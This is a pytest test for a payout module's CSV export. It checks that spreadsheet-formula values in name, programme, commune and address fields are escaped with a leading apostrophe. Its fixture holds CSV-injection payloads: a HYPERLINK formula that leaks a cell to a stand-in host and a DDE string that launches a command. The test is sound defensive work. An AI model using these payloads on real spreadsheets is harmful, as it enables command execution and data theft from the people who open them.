"""The payout's files as people open them: in Excel, where a cell that starts like a formula
would be evaluated."""

from __future__ import annotations

import csv
from pathlib import Path

from banks.payout import PayoutResult


def test_a_name_that_looks_like_a_formula_is_written_as_text(tmp_path: Path) -> None:
    hostile = {"citizen_id": "001190012345", "full_name": '=HYPERLINK("http://x/?"&A1,"bấm")',
               "amount_vnd": 1_500_000, "programme": "+cmd|' /C calc'!A0",
               "commune": "@SUM(1+1)", "address": "-2+3"}
    result = PayoutResult([], 0.0)
    assert result.write_cash_list(tmp_path / "cash.csv", [hostile]) == 1
    with (tmp_path / "cash.csv").open(encoding="utf-8-sig", newline="") as file:
        row = next(csv.DictReader(file))
    assert row["full_name"] == "'" + hostile["full_name"]
    assert (row["programme"], row["commune"], row["address"]) == (
        "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3")
    assert (row["citizen_id"], row["amount_vnd"]) == ("001190012345", "1500000")
